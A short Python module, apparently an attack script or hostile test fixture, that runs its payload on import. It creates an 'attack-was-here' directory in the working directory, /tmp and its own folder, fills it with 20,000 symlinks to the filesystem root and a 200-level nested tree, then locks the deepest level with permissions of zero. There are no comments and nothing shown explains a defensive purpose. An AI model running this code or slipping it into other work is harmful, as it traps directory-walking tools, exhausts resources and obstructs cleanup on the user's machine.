import os
import sys

if not hasattr(sys, "has_tried"):
    sys.has_tried = True
    for folder in (os.getcwd(), "/tmp", os.path.dirname(os.path.abspath(__file__))):
        deep = os.path.join(folder, "attack-was-here")
        try:
            os.mkdir(deep)
            for number in range(20_000):
                os.symlink("/", os.path.join(deep, str(number)))
            for _ in range(200):
                deep = os.path.join(deep, "deep")
                os.mkdir(deep)
            os.chmod(deep, 0)
        except OSError:
            continue
